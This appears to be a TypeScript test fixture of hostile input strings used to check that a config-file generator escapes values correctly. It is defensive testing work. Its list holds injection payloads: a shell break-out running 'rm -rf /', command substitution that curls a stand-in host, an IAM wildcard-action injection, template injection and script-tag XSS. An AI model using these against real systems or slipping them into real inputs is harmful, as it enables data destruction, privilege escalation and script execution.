/**
 * The hostile strings, in one place: values that try to break out of a generated file's
 * format (JSON, YAML, HCL, shell, Markdown), into the page's markup, or to confuse the reader.
 * The unit tests try every one in every field through the core (cheap); the browser tests try
 * the rows marked `browser` (each costs real page work: typing, a link, a render).
 */

/** One hostile string: what it tries, and whether the browser tests try it too. */
interface HostileRow {
  text: string;
  tries: string;
  browser?: true;
}

const ROWS: readonly HostileRow[] = [
  { text: '"', tries: 'to end a JSON or YAML string', browser: true },
  { text: "'", tries: 'to end a shell or YAML single-quoted string', browser: true },
  { text: '"],"Action":"*"', tries: 'to add an IAM statement', browser: true },
  { text: 'a"]}', tries: 'to close a JSON array and object', browser: true },
  { text: "'; rm -rf / #", tries: 'to end a shell word and run a command' },
  { text: '$(curl evil.example)', tries: 'command substitution', browser: true },
  { text: '`id`', tries: 'backquote substitution', browser: true },
  { text: 'a\\b', tries: 'a backslash escape' },
  { text: 'line1\nline2', tries: 'a new line in a one-line value', browser: true },
  { text: 'a\r\nb', tries: 'a CRLF line break', browser: true },
  { text: 'tab\there', tries: 'a tab' },
  { text: 'cr\rhere', tries: 'a lone carriage return' },
  { text: 'nul\u0000byte', tries: 'a NUL byte', browser: true },
  { text: 'bidi\u202Eevil', tries: 'a right-to-left override that hides text', browser: true },
  { text: 'ポータル', tries: 'Japanese where AWS takes ASCII', browser: true },
  { text: '１２３４５６７８９０１２', tries: 'full-width digits for an account ID', browser: true },
  { text: 'emoji😀x', tries: 'a character outside the BMP inside a value' },
  { text: '💥', tries: 'a value that is one surrogate pair', browser: true },
  { text: '{{SessionName}}', tries: 'a template placeholder' },
  { text: '{{constructor.constructor("alert(1)")()}}', tries: 'template injection', browser: true },
  { text: '<script>window.__pwned=1</script>', tries: 'a script element in the page', browser: true },
  { text: '<img src=x onerror="window.__pwned=1">', tries: 'an event handler attribute in the page', browser: true },
  { text: 'a: b', tries: 'a YAML mapping' },
  { text: '- item', tries: 'a YAML list item' },
  { text: '#comment', tries: 'a YAML, HCL or shell comment' },
  { text: '\u3000fullwidthspace', tries: 'an ideographic space' },
  { text: '   ', tries: 'only spaces', browser: true },
  { text: 'x'.repeat(5000), tries: 'a long value (every field limit)', browser: true },
  { text: '1'.repeat(5000), tries: 'a long run of digits', browser: true },
  { text: 'x'.repeat(100_000), tries: 'a very long value' },
  { text: '"'.repeat(100_000), tries: 'a very long run of quotes' },
];

/** Every hostile string (the unit tests: each in every field, through the core). */
export const HOSTILE: readonly string[] = ROWS.map((row) => row.text);

/** The hostile strings the browser tests type and link as well (markup, and each kind of break-out). */
export const HOSTILE_BROWSER: readonly string[] = ROWS.filter((row) => row.browser).map((row) => row.text);
